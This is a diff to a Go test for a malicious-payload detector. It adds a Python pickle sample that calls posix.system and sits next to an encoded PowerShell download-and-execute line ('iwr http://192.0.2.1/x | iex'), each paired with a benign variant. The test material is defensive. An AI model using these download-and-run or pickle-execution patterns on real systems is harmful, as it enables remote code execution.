@@ -132,6 +132,10 @@ func TestDetector(t *testing.T) {
 		}
 	}
 	add("UTF-16", base64Of(wide("iwr http://192.0.2.1/x | iex")), base64Of(wide("iwr http://192.0.2.1/x | out")), "encoded-payload")
+	pickled := "cposix\nsystem\n(S'echo poc'\ntR."
+	cases = append(cases,
+		detectortest.Case{Name: "pickle as it stands", File: "note.h", Data: []byte("H" + pickled), Want: []string{"encoded-payload"}},
+		detectortest.Case{Name: "pickle as it stands, harmless", File: "note.h", Data: []byte("Hcposix_ system_ (S'echo poc'\ntR."), AnyPrefix: anyPrefix})
 	add("script", base64Of("#!/bin/sh\necho poc\n"), base64Of("# /bin/sh\necho poc\n"), "encoded-script")
 	detectortest.Run(t, payload.Detector, cases, header, archive.Detector, pickle.Detector, bytecode.Detector)
 }
